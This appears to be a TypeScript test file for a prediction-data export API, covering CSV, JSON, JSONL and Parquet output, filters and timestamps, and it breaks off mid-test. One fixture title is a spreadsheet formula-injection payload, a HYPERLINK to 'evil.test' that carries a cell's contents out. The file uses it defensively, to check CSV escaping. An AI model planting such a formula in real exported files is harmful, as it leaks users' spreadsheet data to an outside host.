/**
 * Export over real HTTP (127.0.0.1:0) with real DuckDB and real Parquet fixture snapshots.
 *
 * The colleague's auth middleware does not exist yet: the test app sets `res.locals.auth` from an
 * `X-Test-Plan` header, mounts only the export routes, and renders problems like api/app.ts does.
 * Integrated tests with real keys come with the auth work.
 */
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startExportServer, type TestServer } from './export-server.ts';
import { formulaSafeSql } from '../../api/export/engine.ts';
import { parseSince } from '../../api/export/params.ts';
import { EXPORT_TABLES } from '../../api/export/tables.ts';
import { fixtureData, publish, resolvedRows, tempDataDir, writeSnapshot } from '../api/fixtures.ts';

const SNAP = 'r20250402T000000Z-ex01';
const AS_OF = '2025-04-02T00:00:00.000Z';

// ---------------------------------------------------------------------------------------------
// Fixture: the api fixture snapshot (resolved_predictions, ...) plus questions, consensus,
// scored_forecasts and raw forecasts, all written as real Parquet by DuckDB.

const STATUS = ['active', 'closed', 'resolved', 'annulled'] as const;
const CATS = ['politics', 'crypto', 'finance'] as const;
const N_QUESTIONS = 12;
const TRICKY_TITLE = 'Will "quotes", commas,\nnewlines and ünïcødé survive?';
/** Titles a spreadsheet would evaluate (q:7, q:8) and a number written as text (q:9). */
const FORMULA_TITLES: Record<number, string> = { 7: '=HYPERLINK("http://evil.test/?x="&A1,"click") will CPI exceed 3?', 8: '@SUM(A1) polls', 9: '-2.5' };
/** What the CSV export writes for a title: a formula gets a leading apostrophe, the rest is exact. */
const csvTitle = (title: string) => (/^[=+\-@\t\r]/.test(title) && Number.isNaN(Number(title)) ? `'${title}` : title);

function day(d: number, month = 1): string {
  return `2025-${String(month).padStart(2, '0')}-${String(d).padStart(2, '0')} 00:00:00`;
}

interface QuestionFix {
  question_id: string;
  category: string;
  status: string;
  created_at: string;
  resolved_at: string | null;
  market_observed_at: string | null;
}

function questionFixtures(): QuestionFix[] {
  return Array.from({ length: N_QUESTIONS }, (_, i) => {
    const status = STATUS[i % 4]!;
    return {
      question_id: `q:${i}`,
      category: CATS[i % 3]!,
      status,
      created_at: day(i + 1),
      resolved_at: status === 'resolved' || status === 'annulled' ? day(i + 1, 3) : null,
      market_observed_at: i === 9 ? null : day(1, 2),
    };
  });
}

/** Expected headline consensus mean of question i (null for q:11: no consensus). */
function expectedHeadline(i: number): { mode: string; mean: number } | null {
  if (i === 11) return null;
  return i % 2 === 0 ? { mode: 'augmented', mean: 0.7 + 0.01 + i / 1000 } : { mode: 'informed', mean: 0.5 + 0.01 + i / 1000 };
}

function lit(v: string | number | null, type: string): string {
  if (v === null) return `NULL::${type}`;
  if (typeof v === 'number') return `${v}::${type}`;
  return `'${v.replaceAll("'", "''")}'::${type}`;
}

async function writeExtraTables(dataDir: string, id: string): Promise<void> {
  const dir = path.join(dataDir, 'snapshots', id);
  const inst = await DuckDBInstance.create(':memory:');
  const c = await inst.connect();
  try {
    const qs = questionFixtures();
    const qRows = qs.map((q, i) =>
      `(${[
        lit(q.question_id, 'VARCHAR'), lit(['polymarket', 'kalshi', 'manifold'][i % 3]!, 'VARCHAR'), lit(`m-${i}`, 'VARCHAR'),
        lit(i === 5 ? TRICKY_TITLE : FORMULA_TITLES[i] ?? `Question ${i}`, 'VARCHAR'), lit(`desc ${i}`, 'VARCHAR'), lit(`criteria ${i}`, 'VARCHAR'),
        lit(`https://example.test/${i}`, 'VARCHAR'), lit(q.category, 'VARCHAR'), lit('policy', 'VARCHAR'), `['t${i}']::VARCHAR[]`,
        lit(q.created_at, 'TIMESTAMP'), lit(day(i + 1, 3), 'TIMESTAMP'), lit(q.status, 'VARCHAR'),
        q.status === 'resolved' ? lit(i % 8 === 2 ? 1 : 0, 'DOUBLE') : 'NULL::DOUBLE',
        lit(q.resolved_at, 'TIMESTAMP'), lit(q.status === 'annulled' ? 'ambiguous' : null, 'VARCHAR'),
        lit(q.resolved_at ? 'fred' : null, 'VARCHAR'), lit(q.resolved_at ? 'FRED' : null, 'VARCHAR'),
        lit(q.resolved_at ? 'government' : null, 'VARCHAR'), lit(q.resolved_at ? 'https://fred.test/' : null, 'VARCHAR'),
        lit(q.resolved_at ? `excerpt ${i}` : null, 'VARCHAR'), lit(q.resolved_at ? day(2, 4) : null, 'TIMESTAMP'),
        lit(q.resolved_at ? 'official' : null, 'VARCHAR'), lit(q.market_observed_at ? 0.4 + i / 100 : null, 'DOUBLE'),
        lit(q.market_observed_at, 'TIMESTAMP'), lit('en', 'VARCHAR'),
      ].join(', ')})`,
    );
    await c.run(`CREATE TABLE questions AS SELECT * FROM (VALUES ${qRows.join(',\n')}) AS t(
      question_id, venue, venue_market_id, title, description, resolution_criteria, url, category, domain, tags,
      created_at, close_time, status, outcome, resolved_at, annulled_reason, source_slug, source_name, source_kind,
      source_url, evidence_excerpt, retrieved_at, resolution_method, latest_market_probability,
      latest_market_observed_at, lang)`);

    // consensus: even questions have augmented and blind, odd ones informed only; two runs each
    // (r2 newer: the headline); q:11 has none.
    const cRows: string[] = [];
    for (let i = 0; i < N_QUESTIONS - 1; i++) {
      const modes = i % 2 === 0 ? ['augmented', 'blind'] : ['informed'];
      for (const mode of modes) {
        for (const run of ['r1', 'r2']) {
          const base = mode === 'augmented' ? 0.7 : mode === 'informed' ? 0.5 : 0.3;
          const mean = base + (run === 'r2' ? 0.01 : 0) + i / 1000;
          cRows.push(`(${[
            lit(`q:${i}`, 'VARCHAR'), lit(mode, 'VARCHAR'), lit(run, 'VARCHAR'),
            lit(run === 'r2' ? day(15, 2) : day(1, 2), 'TIMESTAMP'), lit(4, 'INTEGER'), lit(mean, 'DOUBLE'),
            lit(mean, 'DOUBLE'), lit(mean, 'DOUBLE'), lit(0.05, 'DOUBLE'), lit(0.1, 'DOUBLE'), lit(0.2, 'DOUBLE'),
            lit('simulated', 'VARCHAR'),
          ].join(', ')})`);
        }
      }
    }
    await c.run(`CREATE TABLE consensus AS SELECT * FROM (VALUES ${cRows.join(',\n')}) AS t(
      question_id, mode, run_id, created_at, n_models, mean, median, logit_mean, sd, range, sd_logit, providers)`);

    // scored_forecasts: 2 models × the resolved questions (2, 6, 10).
    await c.run(`CREATE TABLE scored_forecasts AS
      SELECT q.question_id, m.model, 'augmented' AS mode, 'r2' AS run_id, TIMESTAMP '2025-02-15' AS created_at,
             0.6::DOUBLE AS probability, 'simulated' AS provider, q.outcome, q.resolved_at,
             (0.6 - q.outcome) ^ 2 AS brier, 0.5::DOUBLE AS log_loss, 'correct' AS direction, 'low' AS tier,
             date_diff('day', TIMESTAMP '2025-02-15', q.resolved_at)::DOUBLE AS horizon_days, '31-90' AS horizon_bucket,
             q.category, q.domain, 0.5::DOUBLE AS market_probability, TIMESTAMP '2025-02-01' AS market_observed_at,
             (0.5 - q.outcome) ^ 2 AS market_brier, 0.69::DOUBLE AS market_log_loss
      FROM questions AS q CROSS JOIN (VALUES ('model-a'), ('model-b')) AS m(model)
      WHERE q.status = 'resolved'
      ORDER BY q.question_id, m.model`);

    // track_records (empty in the api fixture): three sources whose `categories` lists need quoting.
    const tracks = path.join(dir, 'track_records.parquet');
    await c.run(`CREATE TABLE track_records AS SELECT * FROM read_parquet('${tracks}')`);
    // src-c's description is an empty text, the others' are null (CSV: `""` against an empty cell).
    await c.run(`INSERT INTO track_records (source_slug, name, description, categories, n_claims, last_claim_at) VALUES
      ('src-a', 'Source A', NULL, ['climate', 'crypto'], 3, TIMESTAMP '2025-03-01'),
      ('src-b', 'Source "B", Inc.', NULL, ['world', 'it''s, \\odd'], 1, TIMESTAMP '2025-03-02'),
      ('src-c', 'Source C', '', [], 0, NULL)`);
    await c.run(`COPY track_records TO '${tracks}' (FORMAT parquet)`);

    for (const t of ['questions', 'consensus', 'scored_forecasts']) {
      await c.run(`COPY ${t} TO '${path.join(dir, `${t}.parquet`)}' (FORMAT parquet)`);
    }

    // Raw forecasts, Hive-partitioned as the pipeline writes them.
    const rawDir = path.join(dataDir, 'raw', 'forecasts', 'run_date=2025-02-15', 'run_id=r2');
    await mkdir(rawDir, { recursive: true });
    await c.run(`COPY (
      SELECT 'r2' AS run_id, 'q:' || (i % 12) AS question_id, 'model-' || (i % 2) AS model,
             ['blind','informed','augmented'][i % 3 + 1] AS mode,
             CASE WHEN i = 7 THEN TIMESTAMP '2025-05-01' ELSE TIMESTAMP '2025-02-15' + to_minutes(i) END AS created_at,
             0.5 + i / 100 AS probability,
             'Because "reasons", ' || chr(10) || 'step ' || i AS reasoning, 'en' AS lang,
             ['factor ' || i, 'market probability 3.5%', 'it''s "quoted", with a comma\\ and a backslash'] AS key_factors,
             ['ev-' || i] AS evidence_ids, 'simulated' AS provider, 'h' || i AS prompt_hash
      FROM range(10) r(i)
      UNION ALL
      SELECT 'r2', 'q:unknown', 'model-0', 'blind', TIMESTAMP '2025-02-15', 0.5, 'orphan', 'en', [], [], 'simulated', 'hx'
    ) TO '${path.join(rawDir, 'part-0.parquet')}' (FORMAT parquet)`);
  } finally {
    c.closeSync();
    inst.closeSync();
  }
  const manifestFile = path.join(dir, 'manifest.json');
  const manifest = JSON.parse(await readFile(manifestFile, 'utf8'));
  manifest.tables.push('questions', 'consensus', 'scored_forecasts');
  await writeFile(manifestFile, JSON.stringify(manifest));
}

// ---------------------------------------------------------------------------------------------
// Decoders

/** RFC 4180 CSV → array of records keyed by the header. */
function parseCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; continue; }
      field += ch; i++; continue;
    }
    if (ch === '"') { quoted = true; i++; continue; }
    if (ch === ',') { row.push(field); field = ''; i++; continue; }
    if (ch === '\n' || ch === '\r') {
      row.push(field); field = ''; rows.push(row); row = [];
      i += ch === '\r' && text[i + 1] === '\n' ? 2 : 1;
      continue;
    }
    field += ch; i++;
  }
  if (field !== '' || row.length > 0) { row.push(field); rows.push(row); }
  const [header, ...body] = rows;
  return body.map((r) => Object.fromEntries(header!.map((h, k) => [h, r[k] ?? ''])));
}

async function readParquet(bytes: Uint8Array): Promise<Record<string, unknown>[]> {
  const dir = await mkdtemp(path.join(tmpdir(), 'quorum-pq-'));
  const file = path.join(dir, 'x.parquet');
  await writeFile(file, bytes);
  const inst = await DuckDBInstance.create(':memory:');
  const c = await inst.connect();
  try {
    const reader = await c.runAndReadAll(`SELECT * FROM read_parquet('${file}')`);
    return reader.getRowObjectsJson() as Record<string, unknown>[];
  } finally {
    c.closeSync();
    inst.closeSync();
    await rm(dir, { recursive: true, force: true });
  }
}

// ---------------------------------------------------------------------------------------------

let srv: TestServer;
let cleanup: () => Promise<void>;

beforeAll(async () => {
  const tmp = await tempDataDir();
  cleanup = tmp.cleanup;
  await writeSnapshot(tmp.dir, SNAP, fixtureData(1), { asOf: AS_OF });
  await writeExtraTables(tmp.dir, SNAP);
  await publish(tmp.dir, SNAP);
  srv = await startExportServer(tmp.dir, { proRowCap: 5 });
});

afterAll(async () => {
  await srv?.close();
  await cleanup?.();
});

async function get(p: string, plan: string | null = 'api', init: RequestInit = {}): Promise<{ res: Response; text: string; bytes: Uint8Array; body: any }> {
  const headers = new Headers(init.headers);
  if (plan) headers.set('X-Test-Plan', plan);
  const res = await fetch(srv.url + p, { ...init, headers });
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  let body: any = null;
  if ((res.headers.get('content-type') ?? '').includes('json')) {
    try { body = JSON.parse(text); } catch { body = null; }
  }
  return { res, text, bytes, body };
}

function expectProblem(r: { res: Response; body: any; text: string }, status: number, code: string): void {
  expect(r.res.status, r.text).toBe(status);
  expect(r.res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  expect(r.body).toMatchObject({ status, code, type: `urn:quorum:problem:${code}` });
  expect(r.text).not.toMatch(/\bat .*\.(ts|js):\d+/);
}

async function noExportFiles(dir: string): Promise<string[]> {
  return (await readdir(dir)).filter((n) => n.includes('quorum-export-'));
}

const sortedIds = Array.from({ length: N_QUESTIONS }, (_, i) => `q:${i}`).sort();

describe('predictions export: formats', () => {
  it('CSV by default, with the headers and every question in question_id order', async () => {
    const r = await get('/api/export/predictions/');
    expect(r.res.status, r.text).toBe(200);
    expect(r.res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(r.res.headers.get('content-disposition')).toBe(`attachment; filename="quorum-predictions-${SNAP}.csv"`);
    expect(r.res.headers.get('content-length')).toBe(String(r.bytes.length));
    expect(r.res.headers.get('x-snapshot')).toBe(SNAP);
    expect(r.res.headers.get('x-export-rows')).toBe(String(N_QUESTIONS));
    expect(r.res.headers.get('x-export-row-cap')).toBeNull();
    const rows = parseCsv(r.text);
    expect(rows.map((x) => x.question_id)).toEqual(sortedIds);
    for (const row of rows) {
      const i = Number(row.question_id!.slice(2));
      const h = expectedHeadline(i);
      expect(row.status).toBe(STATUS[i % 4]);
      expect(row.category).toBe(CATS[i % 3]);
      if (h) {
        expect(row.mode).toBe(h.mode);
        expect(Number(row.consensus)).toBeCloseTo(h.mean, 12);
        expect(row.consensus_run_id).toBe('r2');
      } else {
        expect(row.mode).toBe('');
        expect(row.consensus).toBe('');
      }
    }
    expect(rows.find((x) => x.question_id === 'q:5')!.title).toBe(TRICKY_TITLE);
  });

  it('json (one array), jsonl and parquet hold the same rows as csv', async () => {
    const csv = parseCsv((await get('/api/export/predictions?output=csv')).text);
    const json = await get('/api/export/predictions?output=json');
    expect(json.res.status).toBe(200);
    expect(json.res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(json.res.headers.get('content-disposition')).toContain(`quorum-predictions-${SNAP}.json"`);
    const arr = JSON.parse(json.text) as any[];
    expect(Array.isArray(arr)).toBe(true);

    const jsonl = await get('/api/export/predictions?output=JSONL');
    expect(jsonl.res.status).toBe(200);
    expect(jsonl.res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(jsonl.res.headers.get('content-disposition')).toContain('.jsonl"');
    const lines = jsonl.text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l));

    const pq = await get('/api/export/predictions?output=parquet');
    expect(pq.res.status).toBe(200);
    expect(pq.res.headers.get('content-type')).toBe('application/vnd.apache.parquet');
    expect(Buffer.from(pq.bytes.subarray(0, 4)).toString()).toBe('PAR1');
    const parquetRows = await readParquet(pq.bytes);

    for (const rows of [arr, lines, parquetRows]) {
      expect(rows.map((x) => x.question_id)).toEqual(csv.map((x) => x.question_id));
      rows.forEach((row, k) => {
        expect(csvTitle(row.title)).toBe(csv[k]!.title);
        expect(row.status).toBe(csv[k]!.status);
        if (csv[k]!.consensus === '') expect(row.consensus).toBeNull();
        else expect(Number(row.consensus)).toBeCloseTo(Number(csv[k]!.consensus), 12);
      });
    }
  });

  it('csv: text a spreadsheet would run as a formula gets a leading apostrophe; numbers written as text, json and parquet are exact', async () => {
    const csv = parseCsv((await get('/api/export/predictions?output=csv')).text);
    const title = (rows: { question_id?: string; title?: string }[], id: string) => rows.find((x) => x.question_id === id)!.title;
    expect(title(csv, 'q:7')).toBe(`'${FORMULA_TITLES[7]}`);
    expect(title(csv, 'q:8')).toBe(`'${FORMULA_TITLES[8]}`);
    expect(title(csv, 'q:9')).toBe('-2.5');
    expect(title(csv, 'q:1')).toBe('Question 1');
    const json = JSON.parse((await get('/api/export/predictions?output=json')).text) as { question_id: string; title: string }[];
    const parquet = await readParquet((await get('/api/export/predictions?output=parquet')).bytes);
    for (const rows of [json, parquet]) {
      for (const i of [7, 8, 9]) expect(title(rows, `q:${i}`)).toBe(FORMULA_TITLES[i]);
    }
  });

  it('csv: a number is what a spreadsheet reads as one, a plain decimal; DuckDB\'s other number spellings (-inf, +Infinity, -nan, -1_000) get the apostrophe (outside test: they were left bare, and a spreadsheet runs =-inf as a formula)', async () => {
    const cells: Array<[string, string]> = [
      ['-2.5', '-2.5'], ['+1', '+1'], ['-.5', '-.5'], ['-1.', '-1.'], ['-1e5', '-1e5'], ['+2.5E-3', '+2.5E-3'],
      ['-inf', "'-inf"], ['+Infinity', "'+Infinity"], ['-nan', "'-nan"], ['-1_000', "'-1_000"], ['-2.5 ', "'-2.5 "],
      ['\t-2', "'\t-2"], ['=1+1', "'=1+1"], ['@SUM(A1)', "'@SUM(A1)"], ['- 2', "'- 2"], ['plain', 'plain'], ['1_000', '1_000'],
    ];
    const inst = await DuckDBInstance.create(':memory:');
    const c = await inst.connect();
    try {
      const values = cells.map(([cell]) => `('${cell.replaceAll("'", "''")}')`).join(', ');
      const rows = (await c.runAndReadAll(`SELECT ${formulaSafeSql('t')} FROM (VALUES ${values}) AS v(t)`)).getRows().map((r) => r[0]);
      expect(rows).toEqual(cells.map(([, written]) => written));
    } finally {
      c.closeSync();
      inst.closeSync();
    }
  });

  it('an empty result is a valid file of every format', async () => {
    const q = '/api/export/predictions?since=2030-01-01';
    expect(parseCsv((await get(q)).text)).toEqual([]);
    expect(JSON.parse((await get(`${q}&output=json`)).text)).toEqual([]);
    expect((await get(`${q}&output=jsonl`)).text.trim()).toBe('');
    expect(await readParquet((await get(`${q}&output=parquet`)).bytes)).toEqual([]);
  });

  it('HEAD answers the headers without a body', async () => {
    const res = await fetch(`${srv.url}/api/export/predictions`, { method: 'HEAD', headers: { 'X-Test-Plan': 'api' } });
    expect(res.status).toBe(200);
    expect(Number(res.headers.get('content-length'))).toBeGreaterThan(0);
    expect(await res.text()).toBe('');
  });
});

describe('predictions export: filters and limit', () => {
  const ids = async (q: string) => parseCsv((await get(`/api/export/predictions?${q}`)).text).map((r) => r.question_id);
  const expected = (pred: (i: number) => boolean) => sortedIds.filter((id) => pred(Number(id.slice(2))));

  it('status', async () => {
    expect(await ids('status=resolved')).toEqual(expected((i) => i % 4 === 2));
    expect(await ids('status=annulled')).toEqual(expected((i) => i % 4 === 3));
    // active: status active only (closed questions are not active: issue 9 point 11)
    expect(await ids('status=active')).toEqual(expected((i) => i % 4 === 0));
    expect(await ids('status=closed')).toEqual(expected((i) => i % 4 === 1));
    expect(await ids('status=ALL')).toEqual(sortedIds);
  });

  it('category (case-insensitive) and combined filters', async () => {
    expect(await ids('category=crypto')).toEqual(expected((i) => i % 3 === 1));
    expect(await ids('category=Politics&status=resolved')).toEqual(expected((i) => i % 3 === 0 && i % 4 === 2));
    expect(await ids('category=sports')).toEqual([]);
  });

  it('since: updated at or after (latest of created, consensus, market observation, close of a closed question, resolution and its recording)', async () => {
    // Every question but q:11 has a consensus at 2025-02-15; q:11 is annulled in March; the closed
    // ones (i % 4 === 1) closed on 2025-03-(i+1), after their last consensus and price.
    expect(await ids('since=2025-02-15')).toEqual(sortedIds);
    expect(await ids('since=2025-02-16&status=active')).toEqual([]);
    expect(await ids('since=2025-02-15T00:00:01Z')).toEqual(expected((i) => i % 4 >= 1)); // closed, resolved or annulled in March
    // Resolved and annulled questions: their resolutions were recorded (retrieved_at) on 2025-04-02.
    expect(await ids('since=2025-03-10T00:00:00%2B00:00')).toEqual(expected((i) => i % 4 >= 2 || (i % 4 === 1 && i + 1 >= 10)));
    // an offset moves the instant: 2025-03-10T02:00+02:00 is 2025-03-10T00:00Z
    expect(await ids('since=2025-03-10T02:00:00%2B02:00')).toEqual(await ids('since=2025-03-10'));
  });

  it('a question that closed after its last consensus and price is updated at its close (QA: a client syncing with updated_since never saw it leave active)', async () => {
    // q:5 is closed: consensus 2025-02-15, market 2025-02-01, close 2025-03-06.
    const rows = parseCsv((await get('/api/export/predictions?status=closed')).text);
    const q5 = rows.find((r) => r.question_id === 'q:5')!;
    expect(q5.close_time).toBe('2025-03-06T00:00:00.000Z');
    expect(q5.updated_at).toBe('2025-03-06T00:00:00.000Z');
    // A client that synced on 2025-03-03 asks for what changed since: q:5 and q:9 closed after it (q:1 before).
    expect(await ids('updated_since=2025-03-03&status=closed')).toEqual(['q:5', 'q:9']);
    // An active question's future close is no update.
    const active = parseCsv((await get('/api/export/predictions?status=active')).text);
    for (const r of active) expect(r.updated_at < r.close_time || r.close_time === '').toBe(true);
  });

  it('a resolution recorded after it happened is updated when recorded (QA: an imported resolution dated before the previous export never reached a client syncing with updated_since)', async () => {
    // q:2 resolved on 2025-03-03; Quorum recorded the resolution (retrieved_at) on 2025-04-02.
    const q2 = parseCsv((await get('/api/export/predictions?status=resolved')).text).find((r) => r.question_id === 'q:2')!;
    expect(q2.resolved_at).toBe('2025-03-03T00:00:00.000Z');
    expect(q2.updated_at).toBe('2025-04-02T00:00:00.000Z');
    // A client whose previous export's newest row was 2025-03-20 gets it.
    expect(await ids('updated_since=2025-03-20&status=resolved')).toEqual(expected((i) => i % 4 === 2));
  });

  it('limit takes the first rows of the ordered export', async () => {
    expect(await ids('limit=3')).toEqual(sortedIds.slice(0, 3));
    expect(await ids('limit=3&status=resolved')).toEqual(expected((i) => i % 4 === 2).slice(0, 3));
    expect(await ids('limit=1000')).toEqual(sortedIds);
  });
});

/** Column name → DuckDB type of a Parquet file read back with DuckDB. */
async function parquetTypes(bytes: Uint8Array): Promise<Record<string, string>> {
  const dir = await mkdtemp(path.join(tmpdir(), 'quorum-pq-'));
  const file = path.join(dir, 'x.parquet');
  await writeFile(file, bytes);
  const inst = await DuckDBInstance.create(':memory:');
  const c = await inst.connect();
  try {
    const reader = await c.runAndReadAll(`DESCRIBE SELECT * FROM read_parquet('${file}')`);
    return Object.fromEntries(reader.getRowObjectsJson().map((r) => [String(r.column_name), String(r.column_type)]));
  } finally {
    c.closeSync();
    inst.closeSync();
    await rm(dir, { recursive: true, force: true });
  }
}

/** ISO 8601 UTC with milliseconds and Z, the one timestamp shape of CSV/JSON/JSONL exports. */
const ISO_Z = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const TIMESTAMP_COLUMNS: Record<string, string[]> = {
  predictions: ['created_at', 'close_time', 'consensus_at', 'market_observed_at', 'resolved_at', 'updated_at'],
  resolved: ['forecast_at', 'resolved_at', 'retrieved_at', 'market_observed_at'],
  scores: ['created_at', 'resolved_at', 'market_observed_at'],
  forecasts: ['created_at'],
};

describe('exact values (issue 9 point 11)', () => {
  const plan = (t: string) => (t === 'forecasts' ? 'enterprise' : 'api');
  async function rowsOf(table: string, output: string): Promise<Record<string, unknown>[]> {
    const r = await get(`/api/export/${table}?output=${output}`, plan(table));
    expect(r.res.status, r.text).toBe(200);
    if (output === 'csv') return parseCsv(r.text);
    if (output === 'json') return JSON.parse(r.text);
    return r.text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l));
  }

  it('timestamps are ISO 8601 UTC with milliseconds and Z in CSV, JSON and JSONL, for every table', async () => {
    for (const table of Object.keys(TIMESTAMP_COLUMNS)) {
      for (const output of ['csv', 'json', 'jsonl']) {
        const rows = await rowsOf(table, output);
        expect(rows.length, `${table} ${output}`).toBeGreaterThan(0);
        let seen = 0;
        for (const row of rows) {
          for (const col of TIMESTAMP_COLUMNS[table]!) {
            expect(Object.hasOwn(row, col), `${table}.${col}`).toBe(true);
            const v = row[col];
            if (v === null || v === '') continue;
            expect(v, `${table}.${col} in ${output}`).toMatch(ISO_Z);
            seen++;
          }
        }
        expect(seen).toBeGreaterThan(0);
      }
    }
    // The values are the stored UTC instants.
    const q0 = (await rowsOf('predictions', 'json')).find((r) => r.question_id === 'q:0')!;
    expect(q0.created_at).toBe('2025-01-01T00:00:00.000Z');
    expect(q0.consensus_at).toBe('2025-02-15T00:00:00.000Z');
    const f = (await rowsOf('forecasts', 'csv')).find((r) => r.prompt_hash === 'h5')!;
    expect(f.created_at).toBe('2025-02-15T00:05:00.000Z');
  });

  it('Parquet timestamps are TIMESTAMP WITH TIME ZONE (UTC), read back with DuckDB', async () => {
    for (const table of Object.keys(TIMESTAMP_COLUMNS)) {
      const r = await get(`/api/export/${table}?output=parquet`, plan(table));
      expect(r.res.status).toBe(200);
      const types = await parquetTypes(r.bytes);
      for (const col of TIMESTAMP_COLUMNS[table]!) expect(types[col], `${table}.${col}`).toBe('TIMESTAMP WITH TIME ZONE');
      expect(Object.values(types)).not.toContain('TIMESTAMP');
    }
    const inst = await DuckDBInstance.create(':memory:');
    const c = await inst.connect();
    const dir = await mkdtemp(path.join(tmpdir(), 'quorum-pq-'));
    try {
      await writeFile(path.join(dir, 'p.parquet'), (await get('/api/export/predictions?output=parquet')).bytes);
      const read = await c.runAndReadAll(
        `SELECT epoch_ms(created_at) FROM read_parquet('${path.join(dir, 'p.parquet')}') WHERE question_id = 'q:0'`,
      );
      expect(Number(read.getRows()[0]![0])).toBe(Date.parse('2025-01-01T00:00:00Z'));
    } finally {
      c.closeSync();
      inst.closeSync();
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('outcome is an integer 0/1 in every format, null when annulled or unresolved', async () => {
    for (const table of ['predictions', 'resolved', 'scores']) {
      for (const output of ['csv', 'json', 'jsonl']) {
        const r = await get(`/api/export/${table}?output=${output}`);
        expect(r.text, `${table} ${output}`).not.toMatch(/"outcome":\s*-?\d+\.\d/);
        const rows = output === 'csv' ? parseCsv(r.text) : output === 'json' ? JSON.parse(r.text) : r.text.trim().split('\n').map((l) => JSON.parse(l));
        const outcomes = rows.map((x: any) => x.outcome);
        expect(outcomes.length).toBeGreaterThan(0);
        for (const v of outcomes) {
          if (output === 'csv') expect(['0', '1', '']).toContain(v);
          else expect([0, 1, null]).toContain(v);
        }
        expect(outcomes.some((v: unknown) => v === 1 || v === '1')).toBe(true);
      }
      const types = await parquetTypes((await get(`/api/export/${table}?output=parquet`)).bytes);
      expect(types.outcome, table).toBe('INTEGER');
    }
    const preds = await rowsOf('predictions', 'json');
    for (const row of preds) {
      const i = Number(String(row.question_id).slice(2));
      expect(row.outcome).toBe(STATUS[i % 4] === 'resolved' ? (i % 8 === 2 ? 1 : 0) : null);
    }
  });
});

describe('time filters named for their column (issue 9 point 11)', () => {
  const ids = async (t: string, q: string, key = 'question_id') =>
    parseCsv((await get(`/api/export/${t}?${q}`, t === 'forecasts' ? 'enterprise' : 'api')).text).map((r) => r[key]);

  it('predictions: updated_since (updated_at), resolved_since (resolved_at), since = updated_since', async () => {
    // q:2, q:3, q:6, q:7, q:10, q:11 are resolved/annulled on 2025-03-(i+1); others unresolved.
    expect(await ids('predictions', 'updated_since=2025-02-15T00:00:01Z')).toEqual(await ids('predictions', 'since=2025-02-15T00:00:01Z'));
    expect(await ids('predictions', 'updated_since=2025-02-15')).toEqual(sortedIds);
    const resolvedSince = await ids('predictions', 'resolved_since=2025-03-07');
    expect(resolvedSince).toEqual(sortedIds.filter((id) => { const i = Number(id.slice(2)); return i % 4 >= 2 && i + 1 >= 7; }));
    // Both filters at once: AND.
    expect(await ids('predictions', 'resolved_since=2025-03-11&updated_since=2025-03-07')).toEqual(['q:10', 'q:11']);
    expect(await ids('predictions', 'resolved_since=2025-03-07&updated_since=2025-04-02T00:00:01Z')).toEqual([]);
  });

  it('resolved and scores: resolved_since, since is its alias; forecasts: created_since', async () => {
    for (const t of ['resolved', 'scores']) {
      const a = await ids(t, 'resolved_since=2025-03-05');
      expect(a).toEqual(await ids(t, 'since=2025-03-05'));
      expect(a.length).toBeGreaterThan(0);
      expect(a.length).toBeLessThan((await ids(t, '')).length);
    }
    expect((await ids('forecasts', 'created_since=2025-02-15T00:05:00Z', 'prompt_hash')).sort()).toEqual(['h5', 'h6', 'h8', 'h9']);
    expect(await ids('forecasts', 'since=2025-02-15T00:05:00Z', 'prompt_hash')).toEqual(
      await ids('forecasts', 'created_since=2025-02-15T00:05:00Z', 'prompt_hash'),
    );
  });

  it('a filter the table lacks, since with its target, and a bad timestamp are 400 naming the parameter', async () => {
    const cases: Array<[string, string]> = [
      ['resolved?updated_since=2025-03-01', 'updated_since'],
      ['scores?created_since=2025-03-01', 'created_since'],
      ['predictions?created_since=2025-03-01', 'created_since'],
      ['predictions?since=2025-03-01&updated_since=2025-03-02', 'since'],
      ['resolved?since=2025-03-01&resolved_since=2025-03-01', 'since'],
    ];
    for (const name of ['since', 'updated_since', 'resolved_since']) {
      // Was a 500 from a DuckDB conversion error: out of range once converted to UTC.
      cases.push([`predictions?${name}=${encodeURIComponent('9999-12-31T23:59:59-18:00')}`, name]);
      cases.push([`predictions?${name}=2025-02-30`, name]);
      cases.push([`predictions?${name}=1735689600`, name]);
    }
    for (const [q, param] of cases) {
      const r = await get(`/api/export/${q}`);
      expectProblem(r, 400, 'invalid_parameter');
      expect(r.body.parameter, q).toBe(param);
    }
  });
});

describe('the other tables', () => {
  it('resolved: resolved_predictions, with since/category/limit', async () => {
    const all = parseCsv((await get('/api/export/resolved')).text);
    expect(all.length).toBe(resolvedRows(1).length);
    const r = await get('/api/export/resolved?category=crypto&limit=4&output=jsonl');
    expect(r.res.headers.get('content-disposition')).toContain(`quorum-resolved-${SNAP}.jsonl"`);
    const rows = r.text.trim().split('\n').map((l) => JSON.parse(l));
    expect(rows.length).toBe(4);
    expect(rows.every((x) => x.category === 'crypto')).toBe(true);
    // With a limit: the first rows in the published table's order.
    expect(rows.map((x) => x.question_id)).toEqual(
      resolvedRows(1).filter((x) => x.category === 'crypto').slice(0, 4).map((x) => x.question_id),
    );
    const since = parseCsv((await get('/api/export/resolved?since=2025-03-05')).text);
    expect(since.length).toBe(resolvedRows(1).filter((x) => x.resolved_at !== null && String(x.resolved_at) >= '2025-03-05').length);
    expect(since.length).toBeGreaterThan(0);
  });

  it('scores: scored_forecasts', async () => {
    const r = await get('/api/export/scores?output=json');
    expect(r.res.status).toBe(200);
